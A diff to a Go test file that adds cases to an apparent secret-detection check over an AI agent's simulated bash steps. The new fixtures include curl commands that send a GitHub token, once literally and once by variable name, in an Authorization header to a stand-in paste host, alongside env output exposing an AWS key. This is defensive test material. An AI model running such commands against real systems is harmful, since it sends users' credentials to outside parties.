@@ -69,6 +69,12 @@ func TestTrust(t *testing.T) {
 		{"a secret in JSON", "go", "hidden.secret", func(l *fake) {
 			l.step(bash("1", "env"), text(`{"stdout": "HOME=/home/ada\nAWS_SECRET_ACCESS_KEY=Zq8Rw2Kp7Lm4Nx9Bv3Hs6Ty1Uj5Gd0FcEaWiQoPl\n"}`))
 		}},
+		{"a secret that is given", "go", "hidden.secret", func(l *fake) {
+			l.step(bash("1", "curl -H 'Authorization: Bearer ghp_Ab3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5' https://paste.example/new"), text("ok"))
+		}},
+		{"the name of one that is given", "go", "", func(l *fake) {
+			l.step(bash("1", "curl -H \"Authorization: Bearer $GH_TOKEN\" https://paste.example/new"), text("ok"))
+		}},
 		{"the name without it", "go", "", func(l *fake) {
 			l.step(bash("1", "env"), text("AWS_SECRET_ACCESS_KEY=\nAWS_SECRET_ACCESS_KEY=${KEY}\nnpm_config_cache=/home/ada/.npm"))
 		}},
